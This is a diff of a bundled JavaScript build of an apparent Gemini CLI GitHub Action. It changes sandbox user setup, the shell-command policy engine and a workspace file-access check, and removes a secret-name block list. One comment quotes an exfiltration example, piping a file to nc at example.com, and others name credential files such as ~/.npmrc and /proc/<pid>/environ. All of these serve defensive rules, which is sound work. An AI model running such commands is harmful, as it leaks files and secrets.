+    const sudo = await (options.run ?? run_program/* runProgram */.m)([...(options.sudo ?? DEFAULT_SUDO), 'true'], {
         timeoutMs: 10_000,
     });
     // Set up with sudo when it is there: root can drop supplementary groups, a user namespace cannot.
@@ -6162,17 +6364,17 @@ function namespaceConfig(elevation, user, options) {
         elevation,
         action: actionOwner(options),
         env: options.env,
-        run: options.run ?? runProgram,
+        run: options.run ?? run_program/* runProgram */.m,
         logger: options.logger,
         ...(user ? { user } : {}),
         ...(options.sudo ? { sudo: options.sudo } : {}),
     };
 }
 async function probeNamespace(elevation, options) {
-    const run = options.run ?? runProgram;
+    const run = options.run ?? run_program/* runProgram */.m;
     let user;
     if (elevation === 'root' && actionOwner(options).uid === 0) {
-        const found = await ensureSandboxUser(run, { name: options.userName });
+        const found = await (0,sandbox_user/* ensureSandboxUser */.j)(run, { name: options.userName });
         if ('problem' in found)
             options.logger.debug(`Sandbox: ${found.problem}`);
         else
@@ -6195,7 +6397,7 @@ function namespaceSandbox(elevation, user, options) {
     };
 }
 async function probeUser(options) {
-    const run = options.run ?? runProgram;
+    const run = options.run ?? run_program/* runProgram */.m;
     const action = actionOwner(options);
     if (action.uid !== 0) {
         return {
@@ -6203,7 +6405,7 @@ async function probeUser(options) {
             problem: 'a separate user needs the Action to run as root (with namespaces, sudo serves instead)',
         };
     }
-    const user = await ensureSandboxUser(run, { name: options.userName });
+    const user = await (0,sandbox_user/* ensureSandboxUser */.j)(run, { name: options.userName });
     if ('problem' in user)
         return { works: false, problem: user.problem };
     const config = { user, action, run, logger: options.logger };
@@ -6214,7 +6416,7 @@ function userSandbox(user, options) {
     const config = {
         user,
         action: actionOwner(options),
-        run: options.run ?? runProgram,
+        run: options.run ?? run_program/* runProgram */.m,
         logger: options.logger,
     };
     return {
@@ -6244,7 +6446,7 @@ async function tryOnce(run, open) {
             timeoutMs: 20_000,
         });
         if (result.exitCode !== 0 || result.stdout.trim() !== 'ok') {
-            return `a command in it failed: ${failureText(result)}`;
+            return `a command in it failed: ${(0,run_program/* failureText */.k)(result)}`;
         }
         return undefined;
     }
@@ -6255,6 +6457,66 @@ async function tryOnce(run, open) {
         await session?.close();
         await (0,promises_.rm)(workspaceRoot, { recursive: true, force: true });
     }
+}
+
+
+/***/ }),
+
+/***/ 17583:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   k: () => (/* binding */ failureText),
+/* harmony export */   m: () => (/* binding */ runProgram)
+/* harmony export */ });
+/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(31421);
+/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_child_process__WEBPACK_IMPORTED_MODULE_0__);
+/**
+ * Runs a helper program (unshare, chown, useradd…) to its end: an argument list, never a shell,
+ * with a time limit so a program waiting for something (a sudo password prompt) cannot hang the
+ * run.
+ */
+
+const DEFAULT_TIMEOUT_MS = 30_000;
+const runProgram = (argv, options = {}) => {
+    const [command, ...args] = argv;
+    if (command === undefined)
+        return Promise.resolve({ exitCode: null, stdout: '', stderr: '' });
+    return new Promise((resolve) => {
+        (0,node_child_process__WEBPACK_IMPORTED_MODULE_0__.execFile)(command, args, {
+            env: options.env ?? { PATH: process.env.PATH ?? '/usr/sbin:/usr/bin:/sbin:/bin' },
+            cwd: options.cwd ?? '/',
+            timeout: options.timeoutMs ?? DEFAULT_TIMEOUT_MS,
+            killSignal: 'SIGKILL',
+            maxBuffer: 1024 * 1024,
+            encoding: 'utf8',
+        }, (error, stdout, stderr) => {
+            if (error === null) {
+                resolve({ exitCode: 0, stdout, stderr });
+                return;
+            }
+            const code = error.code;
+            if (typeof code === 'number') {
+                resolve({ exitCode: code, stdout, stderr });
+                return;
+            }
+            resolve({
+                exitCode: null,
+                stdout,
+                stderr,
+                error: error.killed ? `timed out or was killed` : error.message,
+            });
+        });
+    });
+};
+/** The program's own words about a failure, for messages: stderr, else the error, else the code. */
+function failureText(result) {
+    const stderr = result.stderr.trim().split('\n').slice(-3).join(' ').trim();
+    if (stderr !== '')
+        return stderr;
+    if (result.error !== undefined)
+        return result.error;
+    return `exit code ${result.exitCode ?? '(none)'}`;
 }
 
 
@@ -6286,153 +6548,71 @@ function sandboxSummaryLine(sandbox, options) {
 
 /***/ }),
 
-/***/ 4861:
+/***/ 62014:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
-/* harmony export */   P: () => (/* binding */ checkToolEnvironmentAllowList),
-/* harmony export */   Pk: () => (/* binding */ isRunnerControlName),
-/* harmony export */   iT: () => (/* binding */ buildToolEnvironment)
+/* harmony export */   G: () => (/* binding */ SANDBOX_USER_NAME),
+/* harmony export */   j: () => (/* binding */ ensureSandboxUser)
 /* harmony export */ });
-/* unused harmony exports DEFAULT_ALLOWED_VARIABLES, FIXED_TOOL_VARIABLES, isSecretEnvironmentName, isAllowedEnvironmentName */
-/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6316);
-/**
- * The environment of every process a tool starts (shell commands now, MCP servers and discovered
- * tools later).
- *
- * The model is assumed hostile, and whatever a tool process can read, the model can print. So the
- * environment is built from an allow-list rather than by removing known secrets from the parent's:
- * a secret with a name nobody thought of is left behind by default. On top of that, names that
- * look like credentials are refused even when a user allows them explicitly (or through a prefix
- * pattern), because an allow-list entry such as `NPM_*` must not smuggle in `NPM_TOKEN`.
- */
+/* harmony import */ var _run_program_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(17583);
 
-/**
- * What a build or test command needs to behave normally: where programs are, who and where the
- * user is, the locale and time zone, the terminal type, the temp dir, and `CI` (which makes many
- * tools non-interactive).
- */
-const DEFAULT_ALLOWED_VARIABLES = [
-    'PATH',
-    'HOME',
-    'LANG',
-    'LC_*',
-    'TERM',
-    'TZ',
-    'USER',
-    'LOGNAME',
-    'SHELL',
-    'TMPDIR',
-    'CI',
-];
-/**
- * Set in every tool process, overriding the parent: programs can tell they run under an agent
- * (`GEMINI_CLI`, as the Gemini CLI sets it), pagers never wait for a key press, git never prompts
- * for credentials (stdin is closed anyway, but a prompt on the terminal would hang), and colour
- * codes are not produced in the first place.
- */
-const FIXED_TOOL_VARIABLES = {
-    GEMINI_CLI: '1',
-    PAGER: 'cat',
-    GIT_PAGER: 'cat',
-    GIT_TERMINAL_PROMPT: '0',
-    NO_COLOR: '1',
-};
-/**
- * Never passed, whatever the allow-list says:
- * - the GitHub token and model keys under their usual names, and the variables that point at
- *   Google credentials files (google-github-actions/auth sets all three to the file it writes);
- * - `INPUT_*`: every Action input, including the tokens and keys given to this Action;
- * - `ACTIONS_*`: the runner's runtime token, OIDC token request URL and token, cache and
- *   results service URLs, which would let a tool mint credentials or poison caches;
- * - the workflow file-command paths: writing to `GITHUB_ENV`, `GITHUB_PATH` or `GITHUB_OUTPUT`
- *   changes later steps of the job (environment, PATH, outputs), so a tool must not even know them.
- */
-const NEVER_EXACT = new Set([
-    'GITHUB_TOKEN',
-    'GH_TOKEN',
-    'GEMINI_API_KEY',
-    'GOOGLE_API_KEY',
-    'GOOGLE_APPLICATION_CREDENTIALS',
-    'CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE',
-    'GOOGLE_GHA_CREDS_PATH',
-]);
-const FILE_COMMAND_NAMES = new Set([
-    'GITHUB_ENV',
-    'GITHUB_OUTPUT',
-    'GITHUB_PATH',
-    'GITHUB_STATE',
-    'GITHUB_STEP_SUMMARY',
-]);
-const RUNNER_PREFIXES = ['INPUT_', 'ACTIONS_'];
-/**
- * True for the Action's inputs, the runner's runtime tokens and the workflow file-command paths
- * (case-insensitive): what belongs to the runner and this Action, never to anything it starts —
- * not even when configuration names it on purpose (an MCP server's `$VAR`).
- */
-function isRunnerControlName(name) {
-    const upper = name.toUpperCase();
-    return (FILE_COMMAND_NAMES.has(upper) || RUNNER_PREFIXES.some((prefix) => upper.startsWith(prefix)));
-}
-/** Credential-shaped names: `NPM_TOKEN`, `AWS_SECRET`, `DEPLOY_KEY`, `GCP_CREDENTIALS`. */
-const NEVER_SUFFIXES = ['_TOKEN', '_SECRET', '_KEY', '_CREDENTIALS'];
-/** `DB_PASSWORD_FILE`, `CLIENT_SECRET_ID`, `MYSQL_PASSWD`. */
-const NEVER_CONTAINING = ['PASSWORD', 'PASSWD', 'SECRET'];
-/**
- * True for a variable that must never reach a tool process. Case-insensitive, because a secret
- * spelled `github_token` is just as secret. Other process launchers use this for the environment
- * they are configured with.
- */
-function isSecretEnvironmentName(name) {
-    const upper = name.toUpperCase();
-    return (NEVER_EXACT.has(upper) ||
-        isRunnerControlName(upper) ||
-        NEVER_SUFFIXES.some((suffix) => upper.endsWith(suffix)) ||
-        NEVER_CONTAINING.some((part) => upper.includes(part)));
-}
-/** A variable name, or a name prefix followed by `*` (`LC_*`, `NPM_CONFIG_*`). */
-const ALLOW_ENTRY = /^[A-Za-z_][A-Za-z0-9_]*\*?$/;
-/**
- * True when `name` may reach a tool process: it matches the default or the configured
- * allow-list and is not secret-looking.
- */
-function isAllowedEnvironmentName(name, options = {}) {
-    if (isSecretEnvironmentName(name))
-        return false;
-    return [...DEFAULT_ALLOWED_VARIABLES, ...(options.allow ?? [])].some((entry) => entry.endsWith('*') ? name.startsWith(entry.slice(0, -1)) : name === entry);
-}
-/**
- * Checks an allow-list from configuration. Malformed entries are a configuration error; the
- * returned names are entries that will never take effect because they look like secrets, for
- * the caller to warn about.
- */
-function checkToolEnvironmentAllowList(allow, where = 'the tool environment allow-list') {
-    for (const entry of allow) {
-        if (!ALLOW_ENTRY.test(entry)) {
-            throw new _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .ConfigurationError */ .j1(`${where}: "${entry}" is not an environment variable name. Expected a name such as NODE_OPTIONS or a prefix pattern such as NPM_CONFIG_*.`);
+const SANDBOX_USER_NAME = 'gemini-agent-sandbox';
+/** Finds or creates the sandbox user; undefined with the reason when neither works. */
+async function ensureSandboxUser(run, options = {}) {
+    const name = options.name ?? SANDBOX_USER_NAME;
+    const existing = await lookUpUser(run, name);
+    if (existing !== undefined)
+        return { name, ...existing, dedicated: true };
+    const attempts = [
+        // shadow-utils (Debian, Ubuntu, Fedora): a system account with its own group.
+        [
+            'useradd',
+            '--system',
+            '--user-group',
+            '--no-create-home',
+            '--home-dir',
+            '/nonexistent',
+            '--shell',
+            '/usr/sbin/nologin',
+            name,
+        ],
+        // BusyBox (Alpine).
+        ['adduser', '-S', '-D', '-H', '-h', '/nonexistent', '-s', '/sbin/nologin', name],
+    ];
+    const problems = [];
+    for (const argv of attempts) {
+        const result = await run(argv);
+        // Another process may have created it meanwhile: whether it exists now is what counts.
+        const created = await lookUpUser(run, name);
+        if (created !== undefined)
+            return { name, ...created, dedicated: true };
+        problems.push(`${argv[0] ?? ''}: ${(0,_run_program_js__WEBPACK_IMPORTED_MODULE_0__/* .failureText */ .k)(result)}`);
+    }
+    if (options.allowNobody !== false) {
+        const nobody = await lookUpUser(run, 'nobody');
+        if (nobody !== undefined && nobody.uid !== 0) {
+            return { name: 'nobody', ...nobody, dedicated: false };
         }
     }
-    return {
-        refused: allow.filter((entry) => !entry.endsWith('*') && isSecretEnvironmentName(entry)),
-    };
+    return { problem: `cannot create the user ${name} (${problems.join('; ')})` };
 }
-/**
- * The environment for a tool process: the allowed variables of `parentEnv`, then
- * `FIXED_TOOL_VARIABLES`. Nothing else of the parent is passed.
- */
-function buildToolEnvironment(parentEnv, options = {}) {
-    const env = {};
-    for (const [name, value] of Object.entries(parentEnv)) {
-        if (value !== undefined && isAllowedEnvironmentName(name, options))
-            env[name] = value;
-    }
-    return { ...env, ...FIXED_TOOL_VARIABLES };
+async function lookUpUser(run, name) {
+    const uid = await run(['id', '-u', name]);
+    const gid = await run(['id', '-g', name]);
+    const uidNumber = Number(uid.stdout.trim());
+    const gidNumber = Number(gid.stdout.trim());
+    if (uid.exitCode !== 0 || gid.exitCode !== 0)
+        return undefined;
+    if (!Number.isInteger(uidNumber) || !Number.isInteger(gidNumber))
+        return undefined;
+    return { uid: uidNumber, gid: gidNumber };
 }
 
 
 /***/ }),
 
-/***/ 4293:
+/***/ 5650:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -6444,15 +6624,110 @@ __webpack_require__.d(__webpack_exports__, {
 // UNUSED EXPORTS: UNTRUSTED_WORKSPACE_SOURCE, YOLO_SOURCE, settingsRules, yoloRule
 
 // EXTERNAL MODULE: external "node:os"
-var external_node_os_ = __webpack_require__(8161);
+var external_node_os_ = __webpack_require__(48161);
 var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
 // EXTERNAL MODULE: ./src/policy/rule-matching.ts
-var rule_matching = __webpack_require__(7496);
+var rule_matching = __webpack_require__(67496);
+// EXTERNAL MODULE: ./src/policy/argument-text.ts
+var argument_text = __webpack_require__(5535);
 // EXTERNAL MODULE: external "node:path"
-var external_node_path_ = __webpack_require__(6760);
+var external_node_path_ = __webpack_require__(76760);
 var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
 // EXTERNAL MODULE: ./src/tools/path-spelling.ts
-var path_spelling = __webpack_require__(1023);
+var path_spelling = __webpack_require__(11023);
+;// CONCATENATED MODULE: ./src/policy/file-access-check.ts
+/**
+ * The second line behind the sandbox: the files a shell command names in its arguments (see
+ * `file-operands.ts`) must lie inside the workspace, checked the way the file tools check their
+ * paths. A policy that allows `cat` then allows reading the workspace with it, not `~/.npmrc`,
+ * a sibling checkout or `/proc/<pid>/environ` — also where no sandbox could be set up.
+ *
+ * This holds whatever the rules say: no rule can allow a read outside the workspace, because a
+ * rule cannot tell where a path leads (a symlink, `..`, a glob). The sandbox stays the real
+ * boundary; this check keeps the door shut when there is none.
+ */
+
+/** Paths that are never a file anyone could read or change through. */
+const HARMLESS_PATHS = new Set(['/dev/null']);
+/** The decider the transcript names when this check refuses a command. */
+const WORKSPACE_BOUNDARY_DECIDER = 'workspace boundary (files named in shell commands)';
+/**
+ * Why the command may not run because of a file it names, in words the model can act on, or
+ * undefined when every file it names lies inside the workspace.
+ */
+function fileAccessProblem(piece, options) {
+    for (const access of piece.files ?? []) {
+        const problem = accessProblem(access, options);
+        if (problem !== undefined) {
+            return `${problem} Shell commands may only read and write files inside the workspace (${options.context.workspaceRoot}); use paths inside it, or the file tools.`;
+        }
+    }
+    return undefined;
+}
+function accessProblem(access, options) {
+    if (access.unknown !== undefined) {
+        return `\`${access.text}\` cannot be checked before it runs: ${access.unknown}.`;
+    }
+    if (access.path !== undefined)
+        return pathProblem(access.path, access, options);
+    if (access.glob !== undefined)
+        return globProblem(access.glob, access, options);
+    return undefined;
+}
+/** The directory relative paths start from: the root, or the call's `directory` (as the tool resolves it). */
+function baseDirectory(options) {
+    const root = options.context.workspaceRoot;
+    return options.directory === undefined ? root : external_node_path_default().resolve(root, options.directory);
+}
+/**
+ * The path as the kernel will look it up: joined to the directory without removing `..` from the
+ * text, because `link/../x` is the parent of the link's target, not `x`.
+ */
+function pathAsOpened(base, written) {
+    return external_node_path_default().isAbsolute(written) ? written : `${base}/${written}`;
+}
+function isInside(root, absolute) {
+    const relative = external_node_path_default().relative(root, absolute);
+    return relative === '' || (!relative.startsWith('..') && !external_node_path_default().isAbsolute(relative));
+}
+function pathProblem(written, access, options) {
+    if (written === '')
+        return undefined;
+    if (HARMLESS_PATHS.has(written))
+        return undefined;
+    const base = baseDirectory(options);
+    const root = options.context.workspaceRoot;
+    const lexical = external_node_path_default().resolve(base, written);
+    if (!isInside(root, lexical)) {
+        return `\`${access.text}\` is outside the workspace (${lexical}).`;
+    }
+    const problem = options.context.workspacePathProblem?.(pathAsOpened(base, written), access.purpose);
+    return problem === undefined ? undefined : `\`${access.text}\` is refused: ${problem}`;
+}
+function globProblem(pattern, access, options) {
+    const base = baseDirectory(options);
+    const root = options.context.workspaceRoot;
+    // The part before the first glob character is where matching starts; `..` may climb from it.
+    const fixed = pattern.slice(0, pattern.search(/[*?[]/u));
+    const start = external_node_path_default().resolve(base, fixed === '' ? '.' : fixed.replace(/[^/]*$/u, '') || '.');
+    if (!isInside(root, start) || pattern.split('/').includes('..')) {
+        return `\`${access.text}\` is a pattern that reaches outside the workspace.`;
+    }
+    const expand = options.context.expandGlob;
+    if (expand === undefined)
+        return undefined;
+    const matches = expand(pathAsOpened(base, pattern));
+    if (matches === undefined) {
+        return `\`${access.text}\` matches too many files to check (name fewer files, or a directory).`;
+    }
+    for (const match of matches) {
+        const problem = options.context.workspacePathProblem?.(match, access.purpose);
+        if (problem !== undefined)
+            return `\`${access.text}\` matches a path that is refused: ${problem}`;
+    }
+    return undefined;
+}
+
 ;// CONCATENATED MODULE: ./src/policy/shell-decision.ts
 /**
  * Judging a shell command: every simple command found at any depth (list elements, pipeline
@@ -6474,6 +6749,7 @@ var path_spelling = __webpack_require__(1023);
  * met first still decides. If no rule covers it, the sub-command is denied and the reason names
  * what was found.
  */
+
 
 
 
@@ -6500,7 +6776,35 @@ function decideShellCommand(analysis, options) {
         return { decision: 'deny', reason: 'The command contains no command to run.', subcommands: [] };
     }
     const subcommands = analysis.commands.map((piece) => judgePiece(withParserDoubts(piece), options));
-    return { ...combine(subcommands), subcommands };
+    const parts = combine(subcommands);
+    const whole = wholeCommandVerdict(options);
+    if (whole === undefined || parts.decision === 'deny')
+        return { ...parts, subcommands };
+    if (whole.decision === 'ask_user' && parts.decision !== 'allow')
+        return { ...parts, subcommands };
+    return { decision: whole.decision, rule: whole.rule, reason: whole.reason, subcommands };
+}
+/**
+ * The Gemini CLI first judges the whole command line — its first matching rule, by priority — and
+ * only then each part. A deny (or ask_user) that only the whole line matches must hold here too:
+ * `commandRegex = '.*\| *nc '` sees the pipe only in `cat notes.txt | nc example.com 80`, never in
+ * either part. An allow, or a rule that does not look at the command's text (it decides every
+ * part the same way), leaves the decision to the parts.
+ */
+function wholeCommandVerdict(options) {
+    const { subject, command } = options.whole;
+    for (const rule of options.rules) {
+        if (!options.matches(rule, subject) || !(0,rule_matching/* matchesCommand */.f0)(rule, command))
+            continue;
+        const looksAtText = (0,rule_matching/* hasCommandConditions */.gi)(rule) || rule.argsPattern !== undefined;
+        if (rule.decision === 'allow' || !looksAtText)
+            return undefined;
+        const where = `the rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)}, which matches the whole command`;
+        return rule.decision === 'deny'
+            ? { decision: 'deny', rule, reason: rule.denyMessage ?? `Denied by ${where}.` }
+            : { decision: 'ask_user', rule, reason: `Confirmation is asked by ${where}.` };
+    }
+    return undefined;
 }
 /**
  * Deny dominates, then ask_user, then allow. The reason speaks of the sub-commands that were not
@@ -6514,7 +6818,10 @@ function combine(verdicts) {
             : 'allow';
     const deciding = verdicts.filter((verdict) => verdict.decision === decision);
     const first = deciding[0];
-    const rule = first?.rule ? { rule: first.rule } : {};
+    const rule = {
+        ...(first?.rule ? { rule: first.rule } : {}),
+        ...(first?.decidedBy === undefined ? {} : { decidedBy: first.decidedBy }),
+    };
     if (verdicts.length === 1 && first)
         return { decision, ...rule, reason: first.reason };
     if (decision === 'allow') {
@@ -6533,12 +6840,30 @@ function combine(verdicts) {
         .join(' ');
     return { decision, ...rule, reason };
 }
-/** The first rule that decides this sub-command (see the file comment for allow rules). */
+/**
+ * The first rule that decides this sub-command (see the file comment for allow rules); a command
+ * a rule would run that names a file outside the workspace is denied whatever the rule says.
+ */
 function judgePiece(piece, options) {
+    const verdict = judgeByRules(piece, options);
+    if (verdict.decision === 'deny')
+        return verdict;
+    const outside = fileAccessProblem(piece, options);
+    if (outside === undefined)
+        return verdict;
+    return {
+        text: piece.text,
+        decision: 'deny',
+        reason: outside,
+        decidedBy: WORKSPACE_BOUNDARY_DECIDER,
+    };
+}
+function judgeByRules(piece, options) {
     const subject = options.subjectFor(piece);
     let uncovered;
     for (const rule of options.rules) {
-        if (!options.matches(rule, subject) || !(0,rule_matching/* matchesCommand */.f0)(rule, piece.text))
+        const matched = options.matches(rule, subject) && (0,rule_matching/* matchesCommand */.f0)(rule, options.commandFor(piece));
+        if (!matched)
             continue;
         const verdict = (decision, reason) => ({
             text: piece.text,
@@ -6644,7 +6969,7 @@ function redirectTargetProblem(redirect, options) {
         return `The redirection ${shown} targets the .git directory, which may not be written.`;
     }
     const purpose = redirect.operator.includes('>') ? 'write' : 'read';
-    const problem = options.context.workspacePathProblem?.(absolute, purpose);
+    const problem = options.context.workspacePathProblem?.(pathAsOpened(base, target), purpose);
     return problem === undefined ? undefined : `The redirection ${shown} is refused: ${problem}`;
 }
 /** The `directory` argument of a shell call, when it is a string. */
@@ -6674,6 +6999,7 @@ function shellDirectory(args) {
  *   that ends up denied is not counted.
  * - Shell calls are judged per sub-command (see `shell-decision.ts`); deny dominates.
  */
+
 
 
 
@@ -6714,13 +7040,21 @@ function createPolicyEngine(options) {
         }
         return verdict('deny', NO_RULE_REASON, undefined);
     };
-    const decideShell = (call, analysis, context) => {
+    const decideShell = (call, command, analysis, context) => {
         const decision = decideShellCommand(analysis, {
             rules,
             context,
             directory: shellDirectory(call.args),
             homeDir,
             subjectFor: (piece) => subjectOf(call, { ...call.args, command: piece.text }, context),
+            commandFor: (piece) => ({
+                text: piece.text,
+                geminiText: (0,argument_text/* geminiCommandText */.sX)(call.args, piece.text),
+            }),
+            whole: {
+                subject: subjectOf(call, call.args, context),
+                command: { text: command, geminiText: (0,argument_text/* geminiCommandText */.sX)(call.args) },
+            },
             matches: matcher(context),
         });
         if (decision.decision === 'allow') {
@@ -6729,10 +7063,11 @@ function createPolicyEngine(options) {
         const deciders = [
             ...new Set(decision.subcommands
                 .filter((sub) => sub.decision === decision.decision)
-                .map((sub) => (0,rule_matching/* describeDecider */.ST)(sub.rule))),
+                .map((sub) => sub.decidedBy ?? (0,rule_matching/* describeDecider */.ST)(sub.rule))),
         ];
         return verdict(decision.decision, decision.reason, decision.rule, {
             subcommands: decision.subcommands,
+            ...(decision.decidedBy === undefined ? {} : { decidedBy: decision.decidedBy }),
             // An allowed command may owe its answer to several rules; name them all.
             ...(decision.decision === 'allow' && deciders.length > 1
                 ? { decidedBy: deciders.join('; ') }
@@ -6751,7 +7086,7 @@ function createPolicyEngine(options) {
             // The only await: everything after it, including the maxCalls check and count, runs
             // without interruption, so parallel decisions cannot both take a rule's last call.
             const analysis = await analyzeSafely(options.analyzeShell, command);
-            return decideShell(call, analysis, context);
+            return decideShell(call, command, analysis, context);
         },
         isUnconditionallyDenied: (tool, scope) => isUnconditionallyDenied(rules, tool, { ...scope, aliases }),
         declaredTools(tools, scope) {
@@ -6770,7 +7105,7 @@ function subjectOf(call, args, context) {
     };
     return {
         tool,
-        argsJson: (0,rule_matching/* stableStringify */.JB)(args),
+        argsTexts: (0,argument_text/* argumentTexts */.wW)(call.toolName, args),
         ...(call.annotations ? { annotations: call.annotations } : {}),
         paths: (0,rule_matching/* callPaths */.hR)(call.locations, context.workspaceRoot),
     };
@@ -6822,17 +7157,17 @@ function isUnconditionallyDenied(rules, tool, scope) {
 }
 
 // EXTERNAL MODULE: ./src/policy/load-policy.ts
-var load_policy = __webpack_require__(6403);
+var load_policy = __webpack_require__(86403);
 // EXTERNAL MODULE: ./src/policy/policy-types.ts
-var policy_types = __webpack_require__(5578);
-// EXTERNAL MODULE: ./src/policy/parse-policy.ts + 5 modules
-var parse_policy = __webpack_require__(8640);
+var policy_types = __webpack_require__(45578);
+// EXTERNAL MODULE: ./src/policy/parse-policy.ts + 6 modules
+var parse_policy = __webpack_require__(36474);
 // EXTERNAL MODULE: external "node:fs/promises"
-var promises_ = __webpack_require__(1455);
+var promises_ = __webpack_require__(51455);
 // EXTERNAL MODULE: external "node:url"
-var external_node_url_ = __webpack_require__(3136);
+var external_node_url_ = __webpack_require__(73136);
 // EXTERNAL MODULE: ./src/platform/errors.ts
-var errors = __webpack_require__(6316);
+var errors = __webpack_require__(46316);
 ;// CONCATENATED MODULE: ./src/policy/presets.ts
 /**
  * The policies shipped with the Action (`policies/*.toml`, documented in docs/policy.md), which run
@@ -6944,11 +7279,11 @@ function checkListedCommand(command, index, source) {
 }
 
 // EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __webpack_require__(3024);
+var external_node_fs_ = __webpack_require__(73024);
 // EXTERNAL MODULE: external "node:module"
-var external_node_module_ = __webpack_require__(8995);
+var external_node_module_ = __webpack_require__(98995);
 // EXTERNAL MODULE: external "node:v8"
-var external_node_v8_ = __webpack_require__(8877);
+var external_node_v8_ = __webpack_require__(78877);
 ;// CONCATENATED MODULE: ./src/policy/bash-parser.ts
 /**
  * The bash parser: tree-sitter's bash grammar running in WebAssembly, loaded once per process.
@@ -7403,7 +7738,8 @@ function gitArgumentProblems(args) {
 ;// CONCATENATED MODULE: ./src/policy/sed-script.ts
 /**
  * Reads a GNU sed script far enough to find what goes beyond editing a stream: the `e` command and
- * the `e` flag of `s` (run shell commands), and `w`/`W` and the `w` flag (write files). A script
+ * the `e` flag of `s` (run shell commands), `w`/`W` and the `w` flag (write files), and `r`/`R`
+ * (read files the script names). A script
  * this reader does not follow is reported too, so nothing is waved through unread.
  *
  * Delimited parts follow GNU sed: a delimiter ends a part wherever it is not escaped, brackets
@@ -7509,6 +7845,10 @@ class SedReader {
                 this.problems.push(`the sed \`e\` command, which runs a shell command`);
             if (command === 'w' || command === 'W') {
                 this.problems.push(`the sed \`${command}\` command, which writes the file \`${argument}\``);
+            }
+            // `r`/`R` insert any file the script names into the output, past the operand check.
+            if (command === 'r' || command === 'R') {
+                this.problems.push(`the sed \`${command}\` command, which reads the file \`${argument}\``);
             }
             return;
         }
@@ -8225,6 +8565,684 @@ function dangerousArgumentHazards(program, args) {
         details.push(...entry.check(args));
     }
     return details.map((detail) => ({ kind: 'dangerous_argument', detail }));
+}
+
+;// CONCATENATED MODULE: ./src/policy/file-readers.ts
+const SUMS = {
+    longFlags: [
+        'binary',
+        'text',
+        'tag',
+        'zero',
+        'ignore-missing',
+        'quiet',
+        'status',
+        'strict',
+        'warn',
+        'check',
+    ],
+    longValues: { length: 'value', algorithm: 'value' },
+    shortValues: { l: 'value', a: 'value' },
+    longToShort: { check: '-c' },
+    unknownWith: {
+        '-c': 'it checks the files a list names, and those names are only known when it runs',
+    },
+};
+const GREP = {
+    shortValues: {
+        e: 'value',
+        f: 'read',
+        m: 'value',
+        A: 'value',
+        B: 'value',
+        C: 'value',
+        d: 'value',
+        D: 'value',
+    },
+    longValues: {
+        regexp: 'value',
+        file: 'read',
+        'max-count': 'value',
+        'after-context': 'value',
+        'before-context': 'value',
+        context: 'value',
+        directories: 'value',
+        devices: 'value',
+        include: 'value',
+        exclude: 'value',
+        'exclude-from': 'read',
+        'exclude-dir': 'value',
+        label: 'value',
+        'binary-files': 'value',
+        'group-separator': 'value',
+    },
+    longOptional: ['color', 'colour'],
+    longFlags: ['recursive', 'dereference-recursive', 'no-group-separator'],
+    longToShort: { 'dereference-recursive': '-R' },
+    unknownWith: {
+        '-R': 'it follows every symlink while searching directories (use -r, which does not)',
+    },
+    scriptOperandUnless: ['-e', '--regexp', '-f', '--file'],
+};
+const AWK = {
+    shortValues: { f: 'read', E: 'read', i: 'read', e: 'value', v: 'value', F: 'value', l: 'value' },
+    longValues: {
+        file: 'read',
+        exec: 'read',
+        include: 'read',
+        source: 'value',
+        assign: 'value',
+        'field-separator': 'value',
+        load: 'value',
+    },
+    // gawk writes these where its option says (awkCheck reports them); only `--x=file` names one.
+    longOptional: ['profile', 'dump-variables', 'pretty-print', 'debug', 'lint'],
+    scriptOperandUnless: ['-f', '--file', '-E', '--exec', '-e', '--source'],
+    isNotFile: (literal) => /^[A-Za-z_][A-Za-z0-9_]*=/u.test(literal),
+    optionsFirst: true,
+};
+const SED = {
+    shortValues: { e: 'value', f: 'read', l: 'value' },
+    longValues: { expression: 'value', file: 'read', 'line-length': 'value' },
+    longOptional: ['in-place'],
+    longToShort: { 'in-place': '-i' },
+    scriptOperandUnless: ['-e', '--expression', '-f', '--file'],
+    writesOperandsWith: ['-i'],
+};
+/** Modules a jq filter loads are looked up on disk; we cannot tell where. */
+function jqFilterProblem(script) {
+    const filter = script?.literal;
+    if (filter === undefined || !/\b(import|include)\b/u.test(filter))
+        return undefined;
+    return 'its filter loads modules or data files (`import`, `include`), which are looked up outside the command line';
+}
+/** yq's `load` operators read any file the expression names. */
+function yqExpressionProblem(script) {
+    const expression = script?.literal;
+    if (expression === undefined || !/\bload(_[a-z0-9]+)?\s*\(/u.test(expression))
+        return undefined;
+    return 'its expression reads files itself (`load`)';
+}
+const READERS = {
+    cat: {},
+    tac: { shortValues: { s: 'value' }, longValues: { separator: 'value' } },
+    head: {
+        shortValues: { c: 'value', n: 'value' },
+        longValues: { bytes: 'value', lines: 'value' },
+    },
+    tail: {
+        shortValues: { c: 'value', n: 'value', s: 'value' },
+        longValues: {
+            bytes: 'value',
+            lines: 'value',
+            'sleep-interval': 'value',
+            pid: 'value',
+            'max-unchanged-stats': 'value',
+        },
+        longOptional: ['follow'],
+    },
+    less: {
+        shortValues: {
+            b: 'value',
+            h: 'value',
+            j: 'value',
+            k: 'read',
+            o: 'write',
+            O: 'write',
+            p: 'value',
+            P: 'value',
+            t: 'value',
+            T: 'read',
+            x: 'value',
+            y: 'value',
+            z: 'value',
+            '#': 'value',
+            D: 'value',
+        },
+        longValues: {
+            'log-file': 'write',
+            'LOG-FILE': 'write',
+            'lesskey-file': 'read',
+            'tag-file': 'read',
+            pattern: 'value',
+            prompt: 'value',
+            tag: 'value',
+        },
+    },
